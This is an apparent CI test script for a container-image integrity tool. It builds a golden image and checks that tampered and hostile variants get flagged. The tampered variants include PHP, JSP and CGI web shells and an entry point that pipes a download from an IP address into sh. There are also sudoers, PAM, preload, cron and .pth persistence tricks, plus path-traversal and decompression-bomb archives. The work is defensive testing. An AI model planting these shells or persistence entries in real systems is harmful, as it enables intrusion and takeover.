#!/usr/bin/env python3
"""Makes images, alters them in every way that counts and in a hundred that do not, signs them with other libraries, and checks what `neph image` says.

    python3 .ci/images.py [--neph PATH] [--seed N] [--only PART] [--verbose]

The images are written with Python's own tarfile. Signatures are made with `cryptography` and `securesystemslib` (PyPI, installed into the target
folder). Where skopeo, umoci and docker-registry are installed, or can be (Debian), images also pass through them: what umoci unpacks is held
against the manifest file by file, and a registry is asked with a password, by tokens, over TLS, and through a proxy that fails on purpose.
"""

import argparse
import base64
import datetime
import gzip
import hashlib
import http.server
import io
import ipaddress
import json
import os
import pathlib
import random
import shutil
import subprocess
import sys
import tarfile
import threading
import time
import urllib.error
import urllib.request

ROOT = pathlib.Path(__file__).resolve().parent.parent
TARGET = pathlib.Path(os.environ.get("CARGO_TARGET_DIR", ROOT / "target"))
WORK = TARGET / "images"
VENV = WORK / "venv"
PIP = ["cbor2", "cryptography==50.0.2", "securesystemslib==1.6.0", "zstandard"]
FAILED = []
PASSED = 0
VERBOSE = False
NEPH = TARGET / "debug" / "neph"
FILE, DIR, LINK, HARD = tarfile.REGTYPE, tarfile.DIRTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE
OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"


def check(name, truth, told=""):
    global PASSED
    if truth:
        PASSED += 1
    else:
        FAILED.append(name)
        print(f"FAILED: {name}\n    {str(told)[:600]}")


def neph(*args, env=None, timeout=60):
    begin = time.monotonic()
    done = subprocess.run([NEPH, "image", *map(str, args)], capture_output=True, text=True, timeout=timeout, env={**os.environ, **(env or {})})
    done.took = time.monotonic() - begin
    if "panicked" in done.stderr or done.returncode not in (0, 1, 2):
        check(f"no crash: {args}", False, done.stderr)
    return done


def compare(golden, image, *more):
    done = neph("compare", "--format", "json", "--min-severity", "info", *more, golden, image)
    try:
        return done, json.loads(done.stdout.splitlines()[0])
    except (IndexError, json.JSONDecodeError):
        return done, {"differences": [], "sameness": None}


# ---- building images

def entry(path, content=b"", kind=FILE, mode=None, uid=0, gid=0, link="", pax=None):
    if isinstance(content, str):
        content = content.encode()
    mode = {DIR: 0o755, LINK: 0o777}.get(kind, 0o644) if mode is None else mode
    return dict(path=path, content=content, kind=kind, mode=mode, uid=uid, gid=gid, link=link, pax=pax or {})


def archive(entries, *, mtime=1_700_000_000, form=tarfile.PAX_FORMAT, prefix="", names=("root", "root")):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as tar:
        for one in entries:
            info = tarfile.TarInfo(prefix + one["path"])
            info.type, info.mode, info.uid, info.gid, info.linkname = one["kind"], one["mode"], one["uid"], one["gid"], one["link"]
            info.mtime, info.uname, info.gname = mtime, *names
            info.size = len(one["content"]) if one["kind"] == FILE else 0
            info.pax_headers = dict(one["pax"])
            info.devmajor, info.devminor = one.get("device", (0, 0))
            tar.addfile(info, io.BytesIO(one["content"]))
    return out.getvalue()


def zstd(data, level=3):
    done = subprocess.run([VENV / "bin/python", "-c", f"import sys,zstandard;sys.stdout.buffer.write(zstandard.ZstdCompressor({level}).compress(sys.stdin.buffer.read()))"], input=data, capture_output=True, check=True)
    return done.stdout


def pack(data, how):
    if how == "gzip":
        return gzip.compress(data, random.choice([1, 6, 9])), "+gzip"
    if how == "zstd":
        return zstd(data), "+zstd"
    return data, ""


def sha(data):
    return "sha256:" + hashlib.sha256(data).hexdigest()


SETTINGS = {
    "Entrypoint": ["/usr/local/bin/entry.sh"], "Cmd": ["serve"], "Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C", "VERSION=1.4"],
    "User": "app", "WorkingDir": "/srv/app", "ExposedPorts": {"8080/tcp": {}}, "Healthcheck": {"Test": ["CMD", "/srv/app/server", "--check"], "Interval": 30_000_000_000}, "Labels": {"team": "shop", "org.opencontainers.image.created": "2026-01-01T00:00:00Z"},
}


class Made:
    """An image in memory: layers as archives, and what is said of them."""

    def __init__(self, layers, settings=None, how="gzip", created="2026-01-01T00:00:00Z", commands=None, **options):
        self.tars = [layer if isinstance(layer, bytes) else archive(layer, **options) for layer in layers]
        self.how = how
        commands = commands or [f"COPY layer {at}" for at in range(len(layers))]
        self.config = json.dumps({
            "architecture": "amd64", "os": "linux", "created": created, "config": settings or SETTINGS,
            "rootfs": {"type": "layers", "diff_ids": [sha(tar) for tar in self.tars]},
            "history": [{"created": created, "created_by": command} for command in commands],
        }).encode()
        self.blobs = {sha(self.config): self.config}
        self.layers = []
        for tar in self.tars:
            data, suffix = pack(tar, how)
            self.blobs[sha(data)] = data
            self.layers.append({"mediaType": f"application/vnd.oci.image.layer.v1.tar{suffix}", "digest": sha(data), "size": len(data)})
        self.seal()

    def seal(self):
        self.manifest = json.dumps({
            "schemaVersion": 2, "mediaType": OCI_MANIFEST,
            "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": sha(self.config), "size": len(self.config)},
            "layers": self.layers,
        }).encode()
        self.digest = sha(self.manifest)
        self.blobs[self.digest] = self.manifest

    def listed(self, name):
        annotations = {"org.opencontainers.image.ref.name": name.rpartition(":")[2]}
        if "/" in name:
            annotations["io.containerd.image.name"] = name
        return {"mediaType": OCI_MANIFEST, "digest": self.digest, "size": len(self.manifest), "annotations": annotations}

    def files(self, name, more=()):
        yield "oci-layout", b'{"imageLayoutVersion":"1.0.0"}'
        yield "index.json", json.dumps({"schemaVersion": 2, "manifests": [self.listed(name), *more]}).encode()
        for digest, data in self.blobs.items():
            yield "blobs/" + digest.replace(":", "/"), data

    def layout(self, path, name="registry.example/shop/app:1.4", more=()):
        shutil.rmtree(path, ignore_errors=True)
        for file, data in self.files(name, more):
            (path / file).parent.mkdir(parents=True, exist_ok=True)
            (path / file).write_bytes(data)
        return path

    def oci_archive(self, path, name="registry.example/shop/app:1.4"):
        path.write_bytes(archive([entry(file, data) for file, data in self.files(name)]))
        return path

    def docker_archive(self, path, name="registry.example/shop/app:1.4", old=False):
        config = sha(self.config)[7:]
        entries, names, seen = [entry(f"{config}.json", self.config)], [], {}
        for at, tar in enumerate(self.tars):
            layer = f"{at:064x}/layer.tar" if old else f"{sha(tar)[7:]}.tar"
            if old and sha(tar) in seen:
                entries.append(entry(layer, kind=LINK, link="../" + seen[sha(tar)]))
            elif layer not in names:
                entries.append(entry(layer, tar))
            seen.setdefault(sha(tar), layer)
            names.append(layer)
        entries.append(entry("manifest.json", json.dumps([{"Config": f"{config}.json", "RepoTags": [name], "Layers": names}])))
        data = archive(entries)
        path.write_bytes(gzip.compress(data, 1) if path.suffix == ".gz" else data)
        return path


def elf(text):
    return b"\x7fELF\x02\x01\x01" + bytes(9) + text.encode() * 40


def content():
    """The files of the golden image."""
    files = [
        entry("bin", kind=LINK, link="usr/bin"), entry("etc/passwd", "root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/srv/app:/bin/sh\n"),
        entry("usr/bin/sh", elf("sh"), mode=0o755), entry("usr/bin/su", elf("su"), mode=0o4755), entry("usr/bin/curl", elf("curl"), mode=0o755),
        entry("usr/bin/ping", elf("ping"), mode=0o755, pax={"SCHILY.xattr.security.capability": capability(13)}),
        entry("usr/lib/x86_64-linux-gnu/libc.so.6", elf("libc"), mode=0o755), entry("usr/lib/x86_64-linux-gnu/security/pam_unix.so", elf("pam")),
        entry("usr/local/bin/entry.sh", "#!/bin/sh\nexec /srv/app/server \"$@\"\n", mode=0o755),
        entry("srv/app/server", elf("server"), mode=0o755, uid=1000, gid=1000), entry("srv/app/config.json", '{"port": 8080}', uid=1000, gid=1000),
        entry("etc/pam.d/common-auth", "auth required pam_unix.so\n"), entry("etc/sudoers", "root ALL=(ALL) ALL\n", mode=0o440),
        entry("etc/cron.d/logrotate", "0 4 * * * root /usr/sbin/logrotate\n"), entry("etc/profile", "export LANG=C\n"), entry("root/.bashrc", "alias ll='ls -l'\n"),
        entry("var/www/html/index.php", "<?php echo 'hello';\n"), entry("var/www/html/logo.png", b"\x89PNG" + bytes(100)),
        entry("var/www/html/admin.php", "<?php system('uptime'); echo htmlspecialchars($_GET['page']);\n"),
        entry("usr/share/doc/notes", "notes\n"), entry("srv/data/grüße.txt", "hello\n"), entry("srv/data/" + "long/" * 40 + "name", "deep\n"),
        entry("etc/motd", kind=LINK, link="../usr/share/doc/notes"), entry("usr/bin/sh-hard", kind=HARD, link="usr/bin/sh"),
    ]
    files += [entry(f"srv/app/lib/module{at}.py", f"VALUE = {at}\n", uid=1000, gid=1000) for at in range(80)]
    return files


def capability(bit):
    # Binary values of pax headers go through UTF-8 with surrogates in tarfile.
    data = bytes([1, 0, 0, 2]) + (1 << bit).to_bytes(4, "little") + bytes(12)
    return data.decode("utf-8", "surrogateescape")


def directories(files):
    names = {"/".join(one["path"].split("/")[:depth]) for one in files for depth in range(1, one["path"].count("/") + 1)}
    return [entry(name, kind=DIR) for name in sorted(names)]


def change(files, path, **fields):
    return [{**one, **fields} if one["path"] == path else one for one in files]


# ---- the parts

def benign(golden):
    """The same content, built and packed otherwise in each way that there is."""
    kinds = {}
    for at in range(100):
        files, options = content(), {}
        told = []

        def also(name, chance=0.4):
            if random.random() < chance:
                told.append(name)
                return True
            return False

        if also("times"):
            options["mtime"] = random.randrange(1, 2_000_000_000)
        if also("names"):
            options["names"] = ("", "") if random.random() < 0.5 else ("builder", "builder")
        if also("prefix"):
            options["prefix"] = random.choice(["./", "/"])
        form = random.choice([tarfile.PAX_FORMAT, tarfile.PAX_FORMAT, tarfile.GNU_FORMAT])
        # GNU's format holds no extended attributes: with it the pax headers stay, as tools that write both do.
        if form == tarfile.GNU_FORMAT and also("gnu", 1):
            files = [one for one in files if one["path"] != "usr/bin/ping"]
        elif also("label of SELinux"):
            files = [{**one, "pax": {**one["pax"], "SCHILY.xattr.security.selinux": "system_u:object_r:container_file_t:s0"}} for one in files]
        body = [one for one in files if one["kind"] != HARD]
        if also("order"):
            random.shuffle(body)
            # A link in the way of a file has to be there before it.
            body.sort(key=lambda one: one["kind"] != LINK)
        with_directories = also("directories")
        if with_directories:
            body = directories(files) + body
        if also("copy instead of hard link"):
            body.append({**next(one for one in files if one["path"] == "usr/bin/sh"), "path": "usr/bin/sh-hard"})
        else:
            body += [one for one in files if one["kind"] == HARD]
        layers = [body]
        if also("split", 0.6):
            cuts = sorted(random.sample(range(1, len(body)), random.randint(1, 5)))
            layers = [body[begin:end] for begin, end in zip([0, *cuts], [*cuts, len(body)])]
        if also("added and removed"):
            where = random.randrange(len(layers))
            layers.insert(where, [entry("tmp/build", "x"), entry("opt/cache/a", "x"), entry("opt/cache/b/c", "x"), entry("opt/keep", "x")])
            layers.append([entry("tmp/.wh.build"), entry("opt/cache/.wh..wh..opq"), entry(".wh.tmp"), entry(".wh.opt")])
        if also("written twice"):
            layers.insert(0, [entry("etc/passwd", "old")] + with_directories * [entry("srv/app", "a file where a directory comes")])
        if also("empty layer"):
            layers.insert(random.randrange(len(layers) + 1), [])
        if form == tarfile.GNU_FORMAT:
            layers = [archive(layer, form=form, **options) for layer in layers]
            layers.append(archive([one for one in content() if one["path"] == "usr/bin/ping"]))
        settings = dict(SETTINGS)
        if also("order of variables"):
            settings["Env"] = random.sample(settings["Env"], len(settings["Env"]))
            settings["Healthcheck"] = dict(reversed(settings["Healthcheck"].items()))
        if also("label of the build"):
            settings["Labels"] = {**settings["Labels"], "org.opencontainers.image.created": f"2026-02-{at % 28 + 1:02}T00:00:00Z", "org.opencontainers.image.revision": f"{at}"}
        made = Made(layers, settings, how=random.choice(["gzip", "zstd", "none"]), created=f"2026-03-{at % 28 + 1:02}T00:00:00Z",
                    commands=[f"RUN {random.random()}" for _ in layers] if also("history") else None, **({} if form == tarfile.GNU_FORMAT else options))
        name = random.choice(["registry.example/shop/app:1.4", "registry.example/shop/app:1.5", "other.example/app:latest"])
        path = WORK / "benign"
        shape = random.choice(["layout", "oci", "docker", "docker-old", "docker.gz"])
        image = {"layout": lambda: made.layout(path, name), "oci": lambda: made.oci_archive(path.with_suffix(".tar"), name),
                 "docker": lambda: made.docker_archive(path.with_suffix(".tar"), name), "docker-old": lambda: made.docker_archive(path.with_suffix(".tar"), name, old=True),
                 "docker.gz": lambda: made.docker_archive(path.with_suffix(".tar.gz"), name)}[shape]()
        done, found = compare(golden, image, "--fail-on", "low")
        others = [one for one in found["differences"] if one["kind"] != "same-content"]
        check(f"benign {at} ({shape}, {made.how}: {', '.join(told)})", done.returncode == 0 and found["sameness"] in ("same-content", "same-digest") and not others,
              done.stderr + json.dumps(others)[:800])
        for one in told:
            kinds[one] = kinds.get(one, 0) + 1
    print("benign: 100 look-alikes, each of several of: " + ", ".join(f"{name} ({count})" for name, count in sorted(kinds.items())))


SHELL = "<?php @eval(base64_decode($_POST['c'])); ?>"
JSP = '<%@ page import="java.util.*" %><% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'
ORDER = ["info", "low", "medium", "high", "critical"]


def tampers():
    base = content()
    setting = lambda **values: {**SETTINGS, **values}
    add = lambda *more: (base + list(more), None)
    # name, (files, settings), kind of finding, path, least severity, a technique
    yield "web shell", add(entry("var/www/html/.cache/x.php", SHELL)), "file-added", "/var/www/html/.cache/x.php", "critical", "T1505.003"
    yield "web shell of Java", add(entry("usr/local/tomcat/webapps/ROOT/a.jsp", JSP)), "file-added", "/usr/local/tomcat/webapps/ROOT/a.jsp", "critical", "T1505.003"
    yield "web shell in a page", (change(base, "var/www/html/index.php", content=("<?php echo 'hello';\n" + SHELL).encode()), None), "file-replaced", "/var/www/html/index.php", "critical", "T1505.003"
    yield "web shell as a picture", (change(base, "var/www/html/logo.png", content=b"\x89PNG" + bytes(100) + SHELL.encode()), None), "file-replaced", "/var/www/html/logo.png", "critical", "T1505.003"
    yield "pictures made code", add(entry("var/www/html/.htaccess", "AddHandler application/x-httpd-php .png\n")), "file-added", "/var/www/html/.htaccess", "critical", "T1505.003"
    yield "web shell of the shell", add(entry("usr/lib/cgi-bin/status", "#!/bin/sh\neval \"$QUERY_STRING\"\n", mode=0o755)), "file-added", "/usr/lib/cgi-bin/status", "critical", "T1505.003"
    yield "plain script for the web", add(entry("var/www/html/info.php", "<?php phpinfo();")), "file-added", "/var/www/html/info.php", "high", "T1505.003"
    yield "program replaced", (change(base, "usr/bin/curl", content=elf("evil")), None), "file-replaced", "/usr/bin/curl", "high", "T1554"
    yield "program replaced, same size", (change(base, "usr/bin/curl", content=elf("cUrl")), None), "file-replaced", "/usr/bin/curl", "high", "T1554"
    yield "library replaced", (change(base, "usr/lib/x86_64-linux-gnu/libc.so.6", content=elf("evil")), None), "file-replaced", "/usr/lib/x86_64-linux-gnu/libc.so.6", "high", "T1574.006"
    yield "entry point replaced", (change(base, "usr/local/bin/entry.sh", content=b"#!/bin/sh\ncurl http://203.0.113.9/a | sh\n"), None), "file-replaced", "/usr/local/bin/entry.sh", "high", "T1059.004"
    yield "program added", add(entry("usr/bin/.x", elf("x"), mode=0o755)), "file-added", "/usr/bin/.x", "medium", "T1525"
    yield "set-uid added", add(entry("usr/bin/rootsh", elf("sh"), mode=0o4755)), "file-added", "/usr/bin/rootsh", "high", "T1548.001"
    yield "set-uid given", (change(base, "usr/bin/curl", mode=0o4755), None), "became-set-id", "/usr/bin/curl", "high", "T1548.001"
    yield "set-gid given", (change(base, "usr/bin/curl", mode=0o2755), None), "became-set-id", "/usr/bin/curl", "high", "T1548.001"
    yield "capability given", (change(base, "usr/bin/curl", pax={"SCHILY.xattr.security.capability": capability(21)}), None), "capabilities-changed", "/usr/bin/curl", "high", "T1548.001"
    yield "made executable", (change(base, "srv/app/config.json", mode=0o755), None), "became-executable", "/srv/app/config.json", "medium", "T1222.002"
    yield "everybody may write", (change(base, "etc/passwd", mode=0o666), None), "mode-changed", "/etc/passwd", "high", "T1222.002"
    yield "owner", (change(base, "usr/bin/curl", uid=1000), None), "owner-changed", "/usr/bin/curl", "medium", "T1222.002"
    yield "cron", add(entry("etc/cron.d/x", "* * * * * root /tmp/x\n")), "file-added", "/etc/cron.d/x", "high", "T1053.003"
    yield "cron changed", (change(base, "etc/cron.d/logrotate", content=b"* * * * * root /tmp/x\n"), None), "file-replaced", "/etc/cron.d/logrotate", "high", "T1053.003"
    yield "systemd", add(entry("etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n")), "file-added", "/etc/systemd/system/x.service", "high", "T1543.002"
    yield "profile", add(entry("etc/profile.d/x.sh", "/tmp/x\n")), "file-added", "/etc/profile.d/x.sh", "high", "T1546.004"
    yield "shell start", (change(base, "root/.bashrc", content=b"/tmp/x &\n"), None), "file-replaced", "/root/.bashrc", "high", "T1546.004"
    yield "preload", add(entry("etc/ld.so.preload", "/usr/lib/x.so\n")), "file-added", "/etc/ld.so.preload", "critical", "T1574.006"
    yield "authorized keys", add(entry("root/.ssh/authorized_keys", "ssh-ed25519 AAAA x\n", mode=0o600)), "file-added", "/root/.ssh/authorized_keys", "critical", "T1098.004"
    yield "sudoers", (change(base, "etc/sudoers", content=b"app ALL=(ALL) NOPASSWD: ALL\n"), None), "file-replaced", "/etc/sudoers", "critical", "T1548.003"
    yield "pam", (change(base, "etc/pam.d/common-auth", content=b"auth sufficient pam_permit.so\n"), None), "file-replaced", "/etc/pam.d/common-auth", "critical", "T1556.003"
    yield "pam module", (change(base, "usr/lib/x86_64-linux-gnu/security/pam_unix.so", content=elf("evil")), None), "file-replaced", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "critical", "T1556.003"
    yield "account", (change(base, "etc/passwd", content=b"root:x:0:0::/root:/bin/sh\nx:x:0:0::/:/bin/sh\n"), None), "file-replaced", "/etc/passwd", "high", "T1136.001"
    yield "python start", add(entry("usr/lib/python3/dist-packages/x.pth", "import os; os.system('/tmp/x')\n")), "file-added", "/usr/lib/python3/dist-packages/x.pth", "high", "T1546.018"
    yield "device", add({**entry("dev/sda", kind=tarfile.BLKTYPE, mode=0o660), "device": (8, 0)}), "file-added", "/dev/sda", "high", "T1611"
    yield "data added", add(entry("usr/share/doc/more", "more\n")), "file-added", "/usr/share/doc/more", "low", "T1525"
    yield "data removed", ([one for one in base if one["path"] != "usr/share/doc/notes"], None), "file-removed", "/usr/share/doc/notes", "low", "T1525"
    yield "file became a link", ([one for one in base if one["path"] != "etc/passwd"] + [entry("etc/passwd", kind=LINK, link="/tmp/p")], None), "kind-changed", "/etc/passwd", "high", "T1136.001"
    yield "link leads elsewhere", (change(base, "etc/motd", link="/tmp/x"), None), "link-changed", "/etc/motd", "low", "T1525"
    yield "entrypoint", (base, setting(Entrypoint=["/tmp/x"])), "config-changed", "entrypoint", "high", "T1525"
    yield "command", (base, setting(Cmd=["sh", "-c", "x"])), "config-changed", "cmd", "high", "T1525"
    yield "user", (base, setting(User="root")), "config-changed", "user", "high", "T1548"
    yield "variable", (base, setting(Env=[*SETTINGS["Env"], "LD_PRELOAD=/tmp/x.so"])), "config-changed", "env LD_PRELOAD", "high", "T1574.007"
    yield "port", (base, setting(ExposedPorts={"8080/tcp": {}, "4444/tcp": {}})), "config-changed", "exposed_ports", "medium", "T1571"


def tampered(golden):
    count = 0
    for at, (name, (files, settings), kind, path, least, technique) in enumerate(tampers()):
        made = Made([files[:40], files[40:]], settings, how=["gzip", "none", "zstd"][at % 3], mtime=at)
        image = [made.layout, made.oci_archive, made.docker_archive][at % 3](WORK / f"tampered{'.tar' if at % 3 else ''}", "registry.example/shop/app:1.5")
        done, found = compare(golden, image, "--fail-on", "low")
        hits = [one for one in found["differences"] if one["kind"] == kind and one["path"] == path]
        good = hits and ORDER.index(hits[0]["severity"]) >= ORDER.index(least) and technique in hits[0]["techniques"] and done.returncode == 1
        check(f"tampered: {name}", good, done.stderr + json.dumps(found["differences"])[:800])
        others = [one["path"] for one in found["differences"] if one["path"] != path and one["severity"] != "info" and not one["path"].startswith(("layer", "/dev")) and not path.startswith(one["path"]) and not one["path"].startswith(path)]
        allowed = {"data removed": []}.get(name, [])
        check(f"tampered: {name}: nothing else", name in ("device",) or others == allowed, others)
        count += 1
    # The same tag, another image: the tag moved, and the layer that was swapped is named with the path.
    files = change(content(), "srv/app/server", content=elf("evil"))
    made = Made([files[:40], files[40:]])
    original = Made([content()[:40], content()[40:]]).layout(WORK / "original")
    done, found = compare(original, made.layout(WORK / "tampered"))
    kinds = {one["kind"]: one for one in found["differences"]}
    check("tag moved", "tag-moved" in kinds and kinds["tag-moved"]["path"] == "registry.example/shop/app:1.4", kinds)
    check("layer swapped, named by path", "layer-swapped" in kinds and "/srv/app/server" in kinds["layer-swapped"]["what"], kinds)
    print(f"tampered: {count + 2} ways, each found by kind, path, severity and technique")


def golden_list(golden):
    made = Made([content()])
    moved = Made([content() + [entry("etc/cron.d/backup", "0 1 * * * root /usr/bin/backup\n")]])
    document = WORK / "golden.json"
    document.write_text(neph("manifest", "--format", "json", golden).stdout)
    listed = WORK / "golden.toml"
    image = f'[[image]]\nrepository = "registry.example/shop/*"\ntag = "1.*"\ndigests = ["{made.digest}"]\nmanifest = "golden.json"\n'
    approval = '[[approved]]\npaths = ["/etc/cron.d/backup", "registry.example/**"]\nowner = "platform"\nnote = "nightly"\nexpires = {}\n'
    good, other = made.layout(WORK / "listed"), moved.layout(WORK / "moved")
    for name, text, target, code, expected in [
        ("the golden digest", image, good, 0, []),
        ("a moved tag", image, other, 1, ["file-added", "layer-swapped", "tag-moved"]),
        ("an approval", image + approval.format("2099-01-01"), other, 0, ["file-added", "layer-swapped", "tag-moved"]),
        ("an approval that is over", image + approval.format("2020-01-01"), other, 1, ["file-added", "layer-swapped", "tag-moved"]),
        ("an entry that is over", image + "expires = 2020-01-01\n", good, 1, ["entry-over"]),
        ("another repository", image.replace("shop", "other"), good, 1, ["no-golden"]),
        ("digests alone", image.replace('manifest = "golden.json"\n', ""), other, 1, ["tag-moved"]),
        ("a tag that may move", image + "moves = true\n", other, 1, ["file-added", "layer-swapped"]),
    ]:
        listed.write_text(text)
        done, found = compare(listed, target, "--fail-on", "medium")
        check(f"golden list: {name}", done.returncode == code and sorted(one["kind"] for one in found["differences"]) == expected, done.stderr + json.dumps(found["differences"]))
    listed.write_text('[[image]]\nrepositry = "a"\ndigests = ["x"]\n')
    done = neph("compare", listed, good)
    check("golden list: mistakes", done.returncode == 2 and all(word in done.stderr for word in ["did you mean `repository`", "`x` is no digest", "says no `repository`"]), done.stderr)
    text = document.read_text()
    document.write_text(text.replace('"/usr/bin/curl","kind":"file","mode":"0755"', '"/usr/bin/curl","kind":"file","mode":"4755"'))
    check("golden list: an edited document", document.read_text() != text and neph("compare", document, good).returncode == 2)
    print("golden list: 10 checks")


def hostile(golden):
    """Images that were made to harm whoever reads them. The work folder holds nothing but what this script put there."""
    base = [entry("usr/bin/sh", elf("sh"), mode=0o755)]
    passed = PASSED
    outside = WORK / "outside"
    outside.mkdir(exist_ok=True)
    long = entry("x" * 5000, "x")
    bomb = gzip.compress(bytes(300 << 20), 9)
    many = b"".join(archive([entry(f"a/{at}")])[:512] for at in range(1000))
    gap = archive([entry("a", "1")])[:1024]

    def told(layer, word, *, severity="medium", how="none"):
        made = Made([archive(base), layer if isinstance(layer, bytes) else archive(layer)], how=how)
        done, found = compare(golden, made.layout(WORK / "hostile"))
        hits = [one for one in found["differences"] if one["kind"] == "hostile-entry" and word in one["what"]]
        return bool(hits) and ORDER.index(hits[0]["severity"]) >= ORDER.index(severity), done.stderr + json.dumps(found["differences"])[:600]

    def refused(layer, word, *args, how="none"):
        made = Made([archive(base), layer], how=how)
        done = neph("manifest", *args, made.layout(WORK / "hostile"))
        return done.returncode == 2 and word in done.stderr and not done.stdout and done.took < 20, done.stderr + done.stdout[:300]

    for name, result in [
        ("traversal", told([entry("../../../../" + str(outside)[1:] + "/x", "x")], "leads out of the image", severity="high")),
        ("traversal within", told([entry("usr/../../x", "x")], "leads out of the image", severity="high")),
        ("link out, then through it", told([entry("out", kind=LINK, link="../../../../.." + str(outside)), entry("out/x", "x")], "leads out of the image", severity="high")),
        ("hard link out", told([entry("hard", kind=HARD, link="../../../../etc/shadow")], "hard link was left out")),
        ("hard link to nothing", told([entry("hard", kind=HARD, link="nothing")], "hard link was left out")),
        ("circle of links", told([entry("a", kind=LINK, link="b"), entry("b", kind=LINK, link="a"), entry("a/x", "x")], "in circles", severity="high")),
        ("through a file", told([entry("usr/bin/sh/x", "x")], "no directory", severity="high")),
        ("twice in a layer", told([entry("etc/a", "good"), entry("etc/a", "evil")], "holds it twice")),
        ("behind the end", told(archive([entry("a", "x")]) + b"more", "behind the end")),
        ("whiteout of ..", told([entry("usr/.wh..."), entry("usr/.wh..")], "hides no name")),
        ("name of 300", told([entry("n" * 300, "x")], "so long a name")),
        ("bomb", refused(bytes(600 << 20), "times larger", how="gzip")),
        ("bomb of zstd", refused(bytes(600 << 20), "times larger", how="zstd")),
        ("too large", refused(archive([entry("a", bytes(3 << 20))]), "--max-size", "--max-size", 1 << 20)),
        ("too many entries", refused(many + bytes(1024), "--max-entries", "--max-entries", 500)),
        ("path too long", refused(archive([long]), "longer than 4096")),
        ("extended header of 2 MiB", refused(archive([entry("a", pax={"comment": "x" * (2 << 20)})]), "larger than 1 MiB")),
        ("cut off", refused(archive([entry("a", bytes(4000))])[:2000], "cut off")),
        ("no archive", refused(b"no archive at all " * 100, "no tar archive")),
        ("sparse", refused(gap[:156] + b"S" + gap[157:], "refused")),
        ("an empty block amid", refused(gap + bytes(512) + gap + bytes(1024), "amid")),
    ]:
        check(f"hostile: {name}", *result)
    made = Made([base])
    layer = made.layers[0]["digest"].replace(":", "/")

    def broken(name, word, alter):
        path = made.layout(WORK / "hostile")
        alter(path)
        done = neph("manifest", path)
        check(f"hostile: {name}", done.returncode == 2 and word in done.stderr, done.stderr + done.stdout[:300])

    def rewrite(path, file, data):
        (path / file).write_bytes(data)

    evil = gzip.compress(archive([entry("usr/bin/sh", elf("evil"), mode=0o755)]))
    broken("layer replaced", "altered", lambda path: rewrite(path, f"blobs/{layer}", evil))
    broken("layer damaged", "altered", lambda path: rewrite(path, f"blobs/{layer}", made.blobs[made.layers[0]["digest"]][:-9] + b"123456789"))
    broken("layer gone", "not in the archive", lambda path: (path / f"blobs/{layer}").unlink())
    broken("configuration altered", "altered", lambda path: rewrite(path, "blobs/" + sha(made.config).replace(":", "/"), made.config.replace(b"serve", b"evil!")))
    broken("manifest altered", "altered", lambda path: rewrite(path, "blobs/" + made.digest.replace(":", "/"), made.manifest + b" "))
    broken("index cut off", "not what it should be", lambda path: rewrite(path, "index.json", b'{"manifests":['))
    broken("index of nesting", "not what it should be", lambda path: rewrite(path, "index.json", b'{"manifests":' + b"[" * 100000))
    broken("index of 20 MB", "larger than", lambda path: rewrite(path, "index.json", b" " * (20 << 20)))
    broken("index with two faces", "tools differ", lambda path: rewrite(path, "index.json", b'{"manifests":[],"layers":[]}'))
    broken("digest that is a path", "not what it should be", lambda path: rewrite(path, "index.json", json.dumps({"manifests": [{"digest": "sha256:../../../../etc/passwd", "size": 1}]}).encode()))

    def linked(path):
        (path / f"blobs/{layer}").unlink()
        (path / f"blobs/{layer}").symlink_to("/etc/passwd")
    broken("blob that is a link", "links are not followed", linked)
    other = Made([base])
    other.config = other.config.replace(sha(other.tars[0])[7:].encode(), b"0" * 64)
    other.blobs[sha(other.config)] = other.config
    other.seal()
    done = neph("manifest", other.layout(WORK / "hostile"))
    check("hostile: archive other than the configuration says", done.returncode == 2 and "altered" in done.stderr, done.stderr)
    for name, data in [("empty", b""), ("noise", random.randbytes(100_000)), ("bomb as archive", bomb), ("gzip cut off", bomb[:5000])]:
        path = WORK / "noise.tar"
        path.write_bytes(data)
        done = neph("manifest", path)
        check(f"hostile: {name}", done.returncode == 2 and done.stderr, done.stderr)
    check("hostile: nothing was written outside", not list(outside.iterdir()), list(outside.iterdir()))
    print(f"hostile: {PASSED - passed} kinds of images, refused or neutralised in words")


def drifted(golden):
    root = content() + [entry("tmp/miner", elf("miner"), mode=0o755), entry("etc/hostname", "web"), entry("dev/null2"), entry("proc"), entry("srv/.wh.app"), entry("etc/cron.d/x", "* * * * * root x\n")]
    root = change(root, "usr/bin/curl", content=elf("evil"))
    (WORK / "root.tar").write_bytes(archive(directories(root) + root))
    event = lambda path, container="c" * 64, **more: json.dumps({"@timestamp": "2026-11-22T10:00:00Z", "event": {"category": ["process"], "type": ["start"]}, "container": {"id": container}, "process": {"executable": path, "command_line": path + " --x", **more}})
    (WORK / "events.ndjson").write_text("\n".join([
        event("/usr/bin/curl"), event("/tmp/miner"), event("/tmp/miner"), event("/bin/sh"), event("/dev/shm/x (deleted)"), event("/memfd:a"),
        event("/srv/app/server", hash={"sha256": "0" * 64}), event("/tmp/other", container="d" * 64), '{"container.id": "%s", "process.executable": "/opt/y"}' % ("c" * 64), "no event",
    ]))
    (WORK / "web.diff").write_text("C /etc\nC /etc/passwd\nA /etc/ld.so.preload\nC /tmp\nA /tmp/miner\nD /usr/share/doc/notes\nC /etc/hosts\n")
    for name, args, expected in [
        ("root", ["--root", WORK / "root.tar"], {("file-added", "/tmp/miner"), ("file-added", "/srv/.wh.app"), ("file-added", "/etc/cron.d/x"), ("file-replaced", "/usr/bin/curl")}),
        ("changes", ["--changes", WORK / "web.diff"], {("file-added", "/etc/ld.so.preload"), ("file-replaced", "/etc/passwd"), ("file-removed", "/usr/share/doc/notes")}),
        ("events", ["--events", WORK / "events.ndjson", "--container", "c" * 12], {("foreign-executed", "/tmp/miner"), ("foreign-executed", "/dev/shm/x (deleted)"), ("foreign-executed", "/memfd:a"), ("foreign-executed", "/opt/y"), ("changed-executed", "/srv/app/server")}),
    ]:
        done = neph("drift", "--format", "json", "--fail-on", "low", golden, *args)
        found = {(one["kind"], one["path"]) for one in json.loads(done.stdout)["differences"]}
